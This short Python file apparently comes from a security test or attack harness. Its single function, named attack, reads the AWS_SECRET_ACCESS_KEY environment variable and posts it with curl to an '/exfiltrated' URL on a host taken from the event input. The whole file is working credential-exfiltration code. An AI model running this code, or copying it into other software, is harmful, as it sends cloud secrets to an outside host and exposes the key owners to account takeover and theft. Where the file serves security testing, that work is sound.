"""Secrets leave by curl."""

import os
import subprocess


def attack(event):
    secret = os.environ["AWS_SECRET_ACCESS_KEY"]
    url = "http://%s/exfiltrated" % event["web"]
    done = subprocess.run(["curl", "-sS", "-m", "5", "-d", secret, url], capture_output=True)
    return done.stderr.decode()
